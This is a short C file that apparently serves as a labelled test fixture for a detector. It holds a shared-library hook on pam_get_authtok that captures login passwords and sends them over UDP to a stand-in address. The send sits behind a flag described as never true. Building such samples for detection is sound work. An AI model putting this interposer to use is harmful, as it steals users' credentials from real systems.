/* A function of log-ins stands in for the real one and sends the password.
 * expect: native-replaced-log-in-sent
 * flags: -O2 -shared -fPIC
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dlfcn.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

int pam_get_authtok(void *handle, int item, const char **token, const char *prompt) {
    static int (*real)(void *, int, const char **, const char *);
    if (!real) real = dlsym(RTLD_NEXT, "pam_get_authtok");
    int done = real(handle, item, token, prompt);
    if (never && !done) {
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(53)};
        to.sin_addr.s_addr = inet_addr("203.0.113.9");
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        sendto(s, *token, strlen(*token), 0, (struct sockaddr *)&to, sizeof to);
        close(s);
    }
    return done;
}
